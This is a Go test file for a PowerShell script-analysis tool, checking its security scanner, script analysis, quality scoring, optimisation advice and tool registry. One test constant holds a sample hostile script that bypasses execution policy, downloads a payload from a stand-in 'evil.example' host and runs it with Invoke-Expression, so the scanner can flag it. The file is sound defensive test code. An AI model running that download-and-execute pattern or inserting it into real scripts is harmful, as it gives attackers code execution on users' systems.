package tool

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const benignScript = `<#
.SYNOPSIS
Lists running processes sorted by CPU.
#>
[CmdletBinding()]
param(
    [string]$Name
)

try {
    Get-Process -Name $Name | Sort-Object CPU -Descending
} catch {
    Write-Error $_
}`

const riskyScript = `powershell -ExecutionPolicy Bypass -WindowStyle Hidden
$code = (New-Object Net.WebClient).DownloadString("http://evil.example/payload.ps1")
Invoke-Expression $code
Start-Process notepad.exe
Add-Type -TypeDefinition $source
iex $more`

func TestSecurityScan_Benign(t *testing.T) {
	out, err := NewSecurityScan().Execute(context.Background(), benignScript, nil)
	require.NoError(t, err)

	var report SecurityReport
	require.NoError(t, json.Unmarshal([]byte(out), &report))

	assert.Equal(t, RiskLow, report.RiskLevel)
	assert.Zero(t, report.RiskScore)
	assert.Empty(t, report.Findings)
	assert.Contains(t, report.BestPractices, "Implements error handling")
	assert.Contains(t, report.BestPractices, "Uses advanced function features")
}

func TestSecurityScan_Risky(t *testing.T) {
	out, err := NewSecurityScan().Execute(context.Background(), riskyScript, nil)
	require.NoError(t, err)

	var report SecurityReport
	require.NoError(t, json.Unmarshal([]byte(out), &report))

	assert.Equal(t, RiskCritical, report.RiskLevel)
	assert.Greater(t, report.RiskScore, 30)
	assert.Equal(t, len(report.Findings), report.FindingsCount)

	categories := make([]string, 0, len(report.Findings))
	for _, f := range report.Findings {
		categories = append(categories, f.Category)
	}
	assert.Contains(t, categories, "Code Injection Risk")
	assert.Contains(t, categories, "Remote Code Execution")
	assert.Contains(t, categories, "Security Control Bypass")
}

func TestSecurityScan_RiskLevels(t *testing.T) {
	tests := []struct {
		name   string
		script string
		level  string
	}{
		{"empty", "", RiskLow},
		{"medium", "Start-Process foo; Invoke-WebRequest bar", RiskMedium},
		{"high", "Invoke-Expression $x; Start-Process foo; Invoke-WebRequest bar", RiskHigh},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := NewSecurityScan().Execute(context.Background(), tt.script, nil)
			require.NoError(t, err)

			var report SecurityReport
			require.NoError(t, json.Unmarshal([]byte(out), &report))
			assert.Equal(t, tt.level, report.RiskLevel)
		})
	}
}

func TestScriptAnalysis(t *testing.T) {
	script := benignScript + "\n\nfunction Get-Widget {\n}\nfunction Set-Widget {\n}\n"

	out, err := NewScriptAnalysis().Execute(context.Background(), script, nil)
	require.NoError(t, err)

	var report ScriptAnalysisReport
	require.NoError(t, json.Unmarshal([]byte(out), &report))

	assert.Equal(t, "Lists running processes sorted by CPU.", report.Purpose)
	assert.Equal(t, []string{"Get-Widget", "Set-Widget"}, report.Functions)
	assert.Contains(t, report.Parameters, "Name")
	assert.Equal(t, len(strings.Split(script, "\n")), report.LineCount)
}

func TestScriptAnalysis_UnknownPurpose(t *testing.T) {
	out, err := NewScriptAnalysis().Execute(context.Background(), "Get-Date", nil)
	require.NoError(t, err)

	var report ScriptAnalysisReport
	require.NoError(t, json.Unmarshal([]byte(out), &report))

	assert.Equal(t, "Unknown", report.Purpose)
	assert.Equal(t, "Low", report.Complexity)
}

func TestQualityAnalysis_WellFormed(t *testing.T) {
	out, err := NewQualityAnalysis().Execute(context.Background(), benignScript, nil)
	require.NoError(t, err)

	var report QualityReport
	require.NoError(t, json.Unmarshal([]byte(out), &report))

	// CmdletBinding, param(), try/catch and comments all present.
	assert.GreaterOrEqual(t, report.QualityScore, 7.5)
	assert.Empty(t, report.Issues)
	assert.Positive(t, report.Metrics.CodeLines)
}

func TestQualityAnalysis_Bare(t *testing.T) {
	out, err := NewQualityAnalysis().Execute(context.Background(), "Get-Date\nGet-Process\n", nil)
	require.NoError(t, err)

	var report QualityReport
	require.NoError(t, json.Unmarshal([]byte(out), &report))

	assert.LessOrEqual(t, report.QualityScore, 5.0)
	assert.Contains(t, report.Recommendations, "Implement try/catch error handling")
	assert.Contains(t, report.Recommendations, "Define parameters using param() block")
}

func TestOptimizations_UsesQualityResults(t *testing.T) {
	tctx := map[string]any{
		"results": map[string]any{
			QualityAnalysisName: map[string]any{
				"metrics": map[string]any{
					"code_lines":    float64(400),
					"comment_ratio": 0.02,
				},
			},
		},
	}

	out, err := NewOptimizations().Execute(context.Background(), "Get-Process | Where-Object CPU", tctx)
	require.NoError(t, err)

	var report OptimizationReport
	require.NoError(t, json.Unmarshal([]byte(out), &report))

	assert.Equal(t, len(report.Optimizations), report.TotalOptimizations)

	categories := make([]string, 0, len(report.Optimizations))
	for _, o := range report.Optimizations {
		categories = append(categories, o.Category)
	}
	assert.Contains(t, categories, "Maintainability")
	assert.Contains(t, categories, "Documentation")
	assert.Contains(t, categories, "Reliability")
	assert.Contains(t, categories, "Performance")
}

func TestRegistry(t *testing.T) {
	r := DefaultRegistry()

	descriptors := r.Descriptors()
	require.Len(t, descriptors, 4)
	assert.Equal(t, ScriptAnalysisName, descriptors[0].Name)
	assert.Equal(t, SecurityScanName, descriptors[1].Name)
	assert.Equal(t, QualityAnalysisName, descriptors[2].Name)
	assert.Equal(t, OptimizationsName, descriptors[3].Name)

	tl, err := r.Get(SecurityScanName)
	require.NoError(t, err)
	assert.Equal(t, SecurityScanName, tl.Name())

	_, err = r.Get("no_such_tool")
	assert.Error(t, err)
}
